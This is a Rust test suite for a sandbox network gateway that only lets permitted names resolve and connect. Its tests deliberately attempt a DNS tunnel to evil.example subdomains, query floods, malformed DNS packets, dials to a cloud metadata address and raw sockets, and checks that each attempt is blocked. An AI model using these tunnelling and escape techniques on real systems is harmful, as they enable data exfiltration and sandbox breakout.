//! Programs that know nothing of proxies: names, connections, and what they cannot reach.

use crate::Test;
use crate::gateway::Gateway;
use crate::lab::{Lab, door};
use model::{DoorSpec, Network, SandboxSpec};
use nanoclaw_sandbox::{Outcome, SpecErrorKind, StartErrorKind, Stdio};
use std::io::{BufRead, BufReader, Write};
use std::process::ExitCode;
use std::time::{Duration, Instant};

pub(crate) const TESTS: &[Test] = &[
    ("permitted_names_resolve_and_others_do_not", names),
    ("every_resolver_agrees", resolvers),
    ("a_dialled_name_arrives_as_connect", connect),
    ("refusals_reset_and_half_closes_pass", closes),
    ("two_names_on_one_port_keep_apart", apart),
    ("more_connections_than_descriptors_wait", waiting),
    ("nothing_but_names_leads_out", closed),
    ("odd_questions_are_refused_not_answered", odd),
    ("a_dns_tunnel_learns_nothing", tunnel),
    ("the_relay_flows_while_names_are_asked", busy),
    ("ports_of_the_sandbox_itself_may_be_permitted_ports", shared_ports),
    ("own_servers_work_beside_the_door", servers),
    ("a_dead_gateway_ends_every_exit", dead),
    ("a_confused_gateway_permits_nothing", confused),
    ("without_a_door_nothing_resolves", without),
    ("the_trust_bundle_is_where_programs_look", trust),
    ("ports_are_bounded", ports),
    ("init_stays_small", small),
];

/// What the test program does as a sandbox's own image: look a name up with its own C library.
pub(crate) fn resolve(args: &[String]) -> ExitCode {
    use std::net::ToSocketAddrs;
    for address in (args[0].as_str(), 443).to_socket_addrs().unwrap() {
        println!("{}", address.ip());
    }
    ExitCode::SUCCESS
}

/// `resolve(name)` and `dns(bytes)`, for every script here. Before it stands `SLOW`, how many times
/// slower than usual the machine is.
const PRELUDE: &str = r"
import socket,struct,sys,time
def resolve(name):
    try: return socket.gethostbyname(name)
    except OSError as e: return type(e).__name__
def question(name,kind=1,cls=1,flags=0x100,ident=7):
    q=b''.join(bytes([len(l)])+l.encode() for l in name.split('.') if l)+b'\0'
    return struct.pack('>6H',ident,flags,1,0,0,0)+q+struct.pack('>2H',kind,cls)
def udp(packet,wait=5*SLOW):
    s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.settimeout(wait)
    s.sendto(packet,('127.0.0.1',53))
    try: return s.recv(4096)
    except TimeoutError: return None
def tcp(packets,close=False):
    s=socket.create_connection(('127.0.0.1',53),5*SLOW)
    s.sendall(b''.join(struct.pack('>H',len(p))+p for p in packets))
    f=s.makefile('rb'); out=[]
    for _ in packets:
        n=f.read(2)
        if len(n)<2: out.append(None); break
        out.append(f.read(struct.unpack('>H',n)[0]))
    return out
def said(answer):
    if answer is None: return 'silence'
    a,f,q,n,ns,ar=struct.unpack('>6H',answer[:12])
    assert f&0x8000
    return (f&15,n,socket.inet_ntoa(answer[-4:]) if n else '')
def dial(host,port,wait=5*SLOW):
    s=socket.socket(); s.settimeout(wait)
    try: s.connect((host,port)); return s
    except OSError as e: return e.errno
def line(host,port):
    s=dial(host,port)
    if isinstance(s,int): return s
    try: return s.makefile().readline().strip()
    except OSError as e: return e.errno
";

fn python(lab: &Lab, gateway: &Gateway, ports: &[u16], script: &str) -> SandboxSpec {
    let mut spec =
        lab.spec(&["python3", "-uc", &format!("SLOW={}\n{PRELUDE}{script}", testkit::slow())]);
    spec.network = door(gateway.socket.clone(), ports);
    spec
}

fn gateway(lab: &Lab, permitted: &[&str]) -> Gateway {
    Gateway::new(lab.dir.join("gateway.sock"), permitted)
}

fn names(lab: &Lab) {
    let gateway = gateway(lab, &["api.example.org:443", "b.example.org:443"]);
    let script = "
a,b=resolve('api.example.org'),resolve('b.example.org')
print(a!=b, all(x.startswith('127.64.') for x in (a,b)), resolve('API.Example.ORG')==a)
print(resolve('other.example.org'),resolve('example.org'),resolve('1.2.3.4.nip.example'))
print(resolve('localhost'),resolve('sandbox'),said(udp(question('x.localhost'))))
print(said(udp(question('api.example.org')))==(0,1,a))
for kind in (28,65,64,16,33,15,255): print(said(udp(question('api.example.org',kind)))[:2],end=' ')
print(said(udp(question('other.example.org',28))))
try: socket.getaddrinfo('api.example.org',443,socket.AF_INET6); print('v6')
except socket.gaierror: print('no v6')
print(len(socket.getaddrinfo('api.example.org',443,type=socket.SOCK_STREAM)))
";
    let out = lab.run(&python(lab, &gateway, &[443], script)).ok();
    assert_eq!(
        out,
        "True True True\ngaierror gaierror gaierror\n127.0.0.1 127.0.0.1 (0, 1, '127.0.0.1')\n\
         True\n(0, 0) (0, 0) (0, 0) (0, 0) (0, 0) (0, 0) (0, 0) (3, 0, '')\nno v6\n1\n"
    );
    let asked = gateway.names();
    let count = |name: &str| asked.iter().filter(|n| *n == name).count();
    assert_eq!((count("api.example.org"), count("other.example.org")), (1, 1), "{asked:?}");
    assert!(asked.iter().all(|n| !n.contains("localhost") && n != "sandbox"), "{asked:?}");
}

fn resolvers(lab: &Lab) {
    let gateway = gateway(lab, &["api.example.org:443"]);
    let sh = |script: &str| {
        let mut spec = lab.sh(script);
        spec.network = door(gateway.socket.clone(), &[443]);
        lab.run(&spec).ok()
    };
    assert_eq!(
        sh("getent ahosts api.example.org | cut -d' ' -f1 | sort -u; getent hosts x.example || \
            echo none; cat /etc/resolv.conf; grep hosts /etc/nsswitch.conf"),
        "127.64.0.1\nnone\nnameserver 127.0.0.1\noptions timeout:5 attempts:2\nhosts: files dns\n"
    );
    let node = "const d=require('dns');d.lookup('api.example.org',(e,a)=>{console.log(a);\
                d.resolve4('api.example.org',(e,a)=>{console.log(a[0]);\
                d.resolve4('no.example.org',e=>{console.log(e.code);\
                d.resolve6('api.example.org',e=>console.log(e.code))})})})";
    for (tool, script, want) in [
        ("node", format!("node -e \"{node}\""), "127.64.0.1\n127.64.0.1\nENOTFOUND\nENODATA\n"),
        (
            "dig",
            "dig +short api.example.org; dig +short +tcp api.example.org".into(),
            "127.64.0.1\n127.64.0.1\n",
        ),
        (
            "curl",
            "curl -s --http0.9 --noproxy '*' -m 1 http://api.example.org:443/ | head -1".into(),
            "api.example.org:443\n",
        ),
        ("busybox", "busybox nslookup api.example.org | grep -c 127.64.0.1".into(), "1\n"),
    ] {
        let have = format!("command -v {tool}");
        let found = std::process::Command::new("sh").args(["-c", &have]).output();
        if !found.is_ok_and(|o| o.status.success()) {
            println!("  {tool} is not installed here and was not tried");
            continue;
        }
        assert_eq!(sh(&script), want, "{tool}");
    }
    // Our own image is static musl: its resolver is the third kind.
    let mut spec = lab.spec(&[nanoclaw_sandbox::BINARY_INSIDE, "__resolve", "api.example.org"]);
    spec.network = door(gateway.socket.clone(), &[443]);
    assert_eq!(lab.run(&spec).ok(), "127.64.0.1\n");
}

fn connect(lab: &Lab) {
    let gateway = gateway(lab, &["api.example.org:443", "api.example.org:8443", "slow.example:80"]);
    let script = "
print(line('api.example.org',443),line('api.example.org',8443),line('slow.example',80))
data=bytes(range(256))*8000
s=socket.create_connection(('api.example.org',443))
import threading
t=threading.Thread(target=lambda:(s.sendall(data),s.shutdown(socket.SHUT_WR))); t.start()
got=b''
while True:
    part=s.recv(65536)
    if not part: break
    got+=part
t.join(); print(got==b'api.example.org:443\\n'+data)
";
    let out = lab.run(&python(lab, &gateway, &[80, 443, 8443], script)).ok();
    assert_eq!(out, "api.example.org:443 api.example.org:8443 slow.example:80\nTrue\n");
}

fn closes(lab: &Lab) {
    let gateway = gateway(lab, &["api.example.org:443", "slow.example:443"]);
    let script = "
print(line('api.example.org',80))
s=socket.create_connection(('slow.example',443)); s.sendall(b'early'); s.shutdown(1)
print(s.makefile().read())
s=socket.create_connection(('slow.example',443))
s.setsockopt(socket.SOL_SOCKET,socket.SO_LINGER,struct.pack('ii',1,0)); s.close()
time.sleep(0.1*SLOW); print(line('api.example.org',443))
";
    // Port 80 is bound, but this name is permitted at 443 only.
    let out = lab.run(&python(lab, &gateway, &[80, 443], script)).ok();
    assert_eq!(out, "104\nslow.example:443\nearly\napi.example.org:443\n");
}

fn apart(lab: &Lab) {
    let gateway = gateway(lab, &["a.example.org:443", "b.example.org:443"]);
    let script = "
names=['a.example.org','b.example.org']
open_=[socket.create_connection((n,443)) for n in names*20]
print([f.makefile().readline().strip() for f in open_]==[n+':443' for n in names*20])
# What is sent cannot change where it goes.
s=open_[0]; s.sendall(b'GET / HTTP/1.1\\r\\nHost: b.example.org\\r\\n\\r\\n'); print(s.recv(5))
";
    let out = lab.run(&python(lab, &gateway, &[443], script)).ok();
    assert_eq!(out, "True\nb'GET /'\n");
    assert_eq!(gateway.connects().len(), 40);
}

fn waiting(lab: &Lab) {
    let gateway = gateway(lab, &["api.example.org:443"]);
    let script = "
many=[socket.create_connection(('api.example.org',443)) for _ in range(60)]
first=[m.makefile().readline() for m in many[:20]]
many[20].settimeout(0.3)
try: many[20].recv(1); print('not held back')
except TimeoutError: pass
for m in many[:20]: m.close()
many[20].settimeout(5*SLOW)
for m in many[20:]: print(m.recv(3)); m.close()
";
    let mut spec = python(lab, &gateway, &[443], script);
    spec.limits.open_files = 200;
    let done = lab.run(&spec);
    let cpu = done.ended.usage.cpu_ms;
    assert_eq!(done.ok(), "b'api'\n".repeat(40));
    assert!(cpu < 2_000 * u64::from(testkit::slow()), "{cpu} ms: waiting must not spin");
}

fn closed(lab: &Lab) {
    let gateway = gateway(lab, &["api.example.org:443"]);
    let script = "
a=resolve('api.example.org')
print(dial('1.2.3.4',443),dial('169.254.169.254',443),line('127.64.0.2',443),line('127.100.1.2',443),
  line('127.0.0.1',443),line('127.0.0.2',443),dial(a,444),line('0.0.0.0',443))
for family,address in ((socket.AF_INET6,('2606:4700::1111',443)),(socket.AF_INET6,('::1',443)),
    (socket.AF_INET6,('::ffff:1.2.3.4',443))):
    s=socket.socket(family)
    try: s.connect(address); print('reached')
    except OSError as e: print(e.errno,end=' ')
for address in ((a,443),('1.1.1.1',53),('127.0.0.2',53)):
    s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.settimeout(1)
    try: s.connect(address); s.send(b'x'); s.recv(9); print('reached')
    except OSError as e: print(e.errno,end=' ')
try: socket.socket(socket.AF_INET,socket.SOCK_RAW,1); print('raw')
except OSError as e: print(e.errno)
for port in (53,443,80):
    s=socket.socket(); s.setsockopt(socket.SOL_SOCKET,socket.SO_REUSEADDR,1)
    s.setsockopt(socket.SOL_SOCKET,socket.SO_REUSEPORT,1)
    try: s.bind(('127.64.0.1',port)); print('bound')
    except OSError as e: print(e.errno,end=' ')
print()
";
    let out = lab.run(&python(lab, &gateway, &[443], script)).ok();
    // Docker leaves IPv6 out of a container's loopback. Inside, ports above the lowest that the
    // first process binds are free to programs, but never one that a name uses.
    let [v6, bound] = match lab.backend.name() {
        "native" => ["101 111 101", "13 13 13 "],
        "docker" => ["99 99 101", "bound\n98 bound\n"],
        _ => ["101 111 101", "bound\n98 bound\n"],
    };
    assert_eq!(
        out,
        format!("101 101 104 104 104 104 111 104\n{v6} 111 101 111 1\n{bound}\n"),
        "unreachable, reset, refused, not permitted"
    );
    assert!(gateway.connects().is_empty(), "{:?}", gateway.connects());
}

fn odd(lab: &Lab) {
    let gateway = gateway(lab, &["api.example.org:443", "a.example.org:443"]);
    let script = r"
good=question('api.example.org')
for packet in (good[:-1],good+b'x',good[:4]+b'\0\2'+good[6:],good[:12]+b'\xc0\x0c\0\1\0\1',
    good[:12],question('a'*64),question('.'.join(['a'*63]*4)),b'\7\0\1\0'+b'\0'*2000):
    print(said(udp(packet))[0],end=' ')
print(said(udp(question('api.example.org',flags=0x2900))),said(udp(question('version.bind',16,3)))[0])
print(udp(good[:11],0.3),udp(question('api.example.org',flags=0x8180),0.3))
for name in ('_x.example.org','a b.example.org','4.3.2.1.in-addr.arpa','10.0.0.1',''):
    print(said(udp(question(name)))[0],end=' ')
print(said(udp(question('api.example.org'+chr(46)))))
edns=good[:11]+b'\1'+good[12:]+b'\0\0\x29\x10\0\0\0\0\0\0\x0c\0\x0a\0\x08abcdefgh'
answer=udp(edns); print(answer[11],answer[-11:].hex())
two=tcp([good,question('none.example.org'),question('api.example.org',28),good])
print([said(a) for a in two])
print(tcp([b'']),said(tcp([good[:-1]])[0]))
s=socket.create_connection(('127.0.0.1',53)); s.sendall(b'\xff\xff'+b'x'*100)
try: print(s.recv(9))
except ConnectionResetError: print('closed')
many=[socket.create_connection(('127.0.0.1',53)) for _ in range(40)]
print(said(udp(good))[0]); [m.close() for m in many]; time.sleep(0.1*SLOW); print(said(tcp([good])[0])[0])
# One byte at a time.
s=socket.create_connection(('127.0.0.1',53))
for b in struct.pack('>H',len(good))+good: s.sendall(bytes([b])); time.sleep(0.001)
print(len(s.recv(999)))
";
    let out = lab.run(&python(lab, &gateway, &[443], script)).ok();
    assert_eq!(
        out,
        "1 1 1 1 1 1 1 1 (4, 0, '') 5\nNone None\n3 3 3 3 3 (0, 1, '127.64.0.1')\n\
         1 00002904d0000000000000\n\
         [(0, 1, '127.64.0.1'), (3, 0, ''), (0, 0, ''), (0, 1, '127.64.0.1')]\n\
         [None] (1, 0, '')\nclosed\n0\n0\n51\n"
    );
}

fn tunnel(lab: &Lab) {
    let gateway = gateway(lab, &["api.example.org:443"]);
    let script = "
resolve('api.example.org')
print('go',flush=True); sys.stdin.readline()
codes={said(udp(question('%056x.evil.example'%n)))[0] for n in range(200)}
print(codes,flush=True); sys.stdin.readline()
s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM)
for n in range(20000): s.sendto(question('%056x.evil.example'%n),('127.0.0.1',53))
time.sleep(0.5*SLOW); print(resolve('api.example.org'),flush=True)
sys.stdin.readline()
";
    let spec = python(lab, &gateway, &[443], script);
    let (stdio, pipes) = Stdio::piped().unwrap();
    let sandbox = lab.spawner.prepare(&spec, stdio).unwrap().start().unwrap();
    let init = sandbox.report().pid;
    let (mut stdin, mut out) = (pipes.stdin, BufReader::new(pipes.stdout));
    let mut heard = |want: &str| {
        let mut line = String::new();
        out.read_line(&mut line).unwrap();
        assert_eq!(line.trim(), want);
        let memory = memory(init);
        stdin.write_all(b"\n").unwrap();
        memory
    };
    let before = heard("go");
    let after = heard("{3}");
    assert_eq!(gateway.names().len(), 201, "each asked about once");
    let flooded = heard("127.64.0.1");
    println!("  init: {before} KiB, {after} KiB after 200 names, {flooded} KiB after a flood");
    assert!(after < before + 200, "{before} KiB became {after}");
    assert!(flooded < before + 1_000, "{before} KiB became {flooded}");
    assert_eq!(sandbox.wait().outcome, Outcome::Exited(0));
}

/// Memory of its own, KiB. The executable is a memory file that all of them share.
fn memory(pid: u32) -> u64 {
    field(pid, "RssAnon:")
}

fn field(pid: u32, name: &str) -> u64 {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap();
    let line = status.lines().find_map(|l| l.strip_prefix(name)).unwrap();
    line.trim().trim_end_matches(" kB").parse().unwrap()
}

fn busy(lab: &Lab) {
    let gateway = gateway(lab, &["api.example.org:443"]);
    let script = "
import threading
s=socket.create_connection(('api.example.org',443)); f=s.makefile('rb'); f.readline()
stop=[]
def flood(k):
    u=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); n=0
    while not stop: u.sendto(question('%d-%d.evil.example'%(k,n)),('127.0.0.1',53)); n+=1; time.sleep(0.0005)
for k in range(2): threading.Thread(target=flood,args=(k,),daemon=True).start()
times=[]
for _ in range(300):
    t=time.perf_counter(); s.sendall(b'ping\\n'); f.readline(); times.append(time.perf_counter()-t)
stop.append(1); times.sort(); print(times[150]<0.05*SLOW, times[-1]<2*SLOW)
";
    let out = lab.run(&python(lab, &gateway, &[443], script)).ok();
    assert_eq!(out, "True True\n");
}

fn shared_ports(lab: &Lab) {
    let gateway = gateway(lab, &["api.example.org:53", "api.example.org:8080"]);
    let script = "
print(said(udp(question('api.example.org')))[0],said(tcp([question('api.example.org')])[0])[0])
print(line('api.example.org',53),line('api.example.org',8080))
s=socket.create_connection(('127.0.0.1',8080))
s.sendall(b'CONNECT api.example.org:53 HTTP/1.1\\r\\nHost: api.example.org:53\\r\\n\\r\\n')
print(s.makefile().readline().strip())
";
    let out = lab.run(&python(lab, &gateway, &[53, 8080], script)).ok();
    assert_eq!(out, "0 0\napi.example.org:53 api.example.org:8080\nHTTP/1.1 200 OK\n");
}

fn servers(lab: &Lab) {
    let gateway = gateway(lab, &["api.example.org:443"]);
    let script = "
for own in ('127.0.0.1','0.0.0.0'):
    l=socket.create_server((own,8000)); c=socket.create_connection(('localhost',8000))
    a,_=l.accept(); a.sendall(b'own'); print(c.recv(3).decode(),end=' '); a.close(); c.close(); l.close()
print(line('api.example.org',443))
";
    let out = lab.run(&python(lab, &gateway, &[443], script)).ok();
    assert_eq!(out, "own own api.example.org:443\n");
}

fn dead(lab: &Lab) {
    let gateway = gateway(lab, &["api.example.org:443"]);
    let spec = python(
        lab,
        &gateway,
        &[443],
        "
print(resolve('api.example.org'),flush=True); sys.stdin.readline()
t=time.time(); print(line('api.example.org',443),said(udp(question('new.example.org'))),
  resolve('new.example.org'),line('127.0.0.1',8080),time.time()-t<3*SLOW)
",
    );
    let (stdio, pipes) = Stdio::piped().unwrap();
    let sandbox = lab.spawner.prepare(&spec, stdio).unwrap().start().unwrap();
    let (mut stdin, mut out) = (pipes.stdin, BufReader::new(pipes.stdout));
    let mut line = String::new();
    out.read_line(&mut line).unwrap();
    assert_eq!(line, "127.64.0.1\n");
    // The bind mount keeps the inode; what dies with a gateway is the listening end. A socket
    // that refuses stands in for it.
    gateway.stop();
    stdin.write_all(b"\n").unwrap();
    line.clear();
    out.read_line(&mut line).unwrap();
    assert_eq!(line, "104 (2, 0, '') gaierror 104 True\n");
    assert_eq!(sandbox.wait().outcome, Outcome::Exited(0));
}

fn confused(lab: &Lab) {
    let names = ["broken.example:443", "silent.example:443", "hanging.example:443"];
    let gateway = gateway(lab, &[&names[..], &["api.example.org:443"]].concat());
    let script = "
import threading
threading.Thread(target=lambda:said(udp(question('hanging.example')))).start(); time.sleep(0.1)
t=time.time(); print(line('api.example.org',443),time.time()-t<1)
print(said(udp(question('broken.example'))),said(udp(question('silent.example'))))
t=time.time(); print(said(tcp([question('hanging.example')])[0]),3<time.time()-t<4.5)
time.sleep(3); print(line('127.64.0.2',443))
";
    let out = lab.run(&python(lab, &gateway, &[443], script)).ok();
    assert_eq!(out, "api.example.org:443 True\n(2, 0, '') (2, 0, '')\n(2, 0, '') True\n104\n");
}

fn without(lab: &Lab) {
    let script = "import socket\n\
        try: print(socket.gethostbyname('api.example.org'))\n\
        except OSError as e: print(type(e).__name__)\n\
        s=socket.socket(); print(s.connect_ex(('127.0.0.1',53)),open('/etc/resolv.conf').read())";
    assert_eq!(lab.run(&lab.spec(&["python3", "-c", script])).ok(), "gaierror\n111 \n");
}

fn trust(lab: &Lab) {
    let gateway = gateway(lab, &[]);
    let bundle = lab.dir.join("state/trust.pem");
    std::fs::write(&bundle, "made-up bundle\n").unwrap();
    // A private file can be shown where ids are mapped; an engine maps none.
    crate::lab::set_mode(&bundle, if lab.native() { 0o600 } else { 0o644 });
    let mut spec = lab.sh(
        "for f in /run/nanoclaw/trust.pem /etc/ssl/certs/ca-certificates.crt /etc/ssl/cert.pem \
         /etc/pki/tls/certs/ca-bundle.crt; do cat $f; (echo x >> $f) 2>/dev/null && echo BAD; \
         done; mv /etc/ssl/cert.pem /tmp 2>/dev/null && echo BAD; true",
    );
    let Network::Door(plain) = door(gateway.socket.clone(), &[443]) else { panic!() };
    spec.network = Network::Door(DoorSpec { trust: Some(bundle.clone()), ..plain });
    assert_eq!(lab.run(&spec).ok(), "made-up bundle\n".repeat(4));
    if !lab.native() && lab.root() {
        crate::lab::set_mode(&bundle, 0o600);
        assert!(lab.refused(&spec).cause.contains("is closed to uid"));
        crate::lab::set_mode(&bundle, 0o644);
    }
    // Without one the host's own stays.
    let host = std::fs::read_to_string("/etc/ssl/certs/ca-certificates.crt").unwrap_or_default();
    assert_eq!(lab.out("cat /etc/ssl/certs/ca-certificates.crt 2>/dev/null || true"), host);
    let Network::Door(plain) = door(gateway.socket.clone(), &[443]) else { panic!() };
    let missing = Some(lab.dir.join("state/none.pem"));
    spec.network = Network::Door(DoorSpec { trust: missing, ..plain });
    let kind = StartErrorKind::Spec(SpecErrorKind::Missing);
    assert_eq!(lab.refused(&spec).kind, kind);
}

fn ports(lab: &Lab) {
    let gateway = gateway(lab, &["api.example.org:9063"]);
    let many: Vec<u16> = (9_000..9_064).collect();
    let out = lab.run(&python(lab, &gateway, &many, "print(line('api.example.org',9063))")).ok();
    assert_eq!(out, "api.example.org:9063\n");
    let more: Vec<u16> = (9_000..9_065).collect();
    for wrong in [&more[..], &[443, 443], &[0]] {
        let error = lab.refused(&python(lab, &gateway, wrong, ""));
        assert_eq!(error.kind, StartErrorKind::Spec(SpecErrorKind::Size), "{error}");
    }
}

fn small(lab: &Lab) {
    let gateway = gateway(lab, &["api.example.org:443"]);
    let mut spec =
        python(lab, &gateway, &[80, 443], "resolve('api.example.org');sys.stdin.readline()");
    for network in [spec.network.clone(), Network::None] {
        spec.network = network;
        let (stdio, _pipes) = Stdio::piped().unwrap();
        let sandbox = lab.spawner.prepare(&spec, stdio).unwrap().start().unwrap();
        let asked = Instant::now();
        while spec.network != Network::None && gateway.names().is_empty() {
            assert!(asked.elapsed() < testkit::patience(Duration::from_secs(10)));
            std::thread::sleep(Duration::from_millis(5));
        }
        std::thread::sleep(Duration::from_millis(50));
        let pid = sandbox.report().pid;
        let (anon, file) = (memory(pid), field(pid, "RssShmem:"));
        println!("  init: {anon} KiB of its own, {file} KiB of the executable");
        assert!(anon <= 2_048, "{anon} KiB");
    }
}
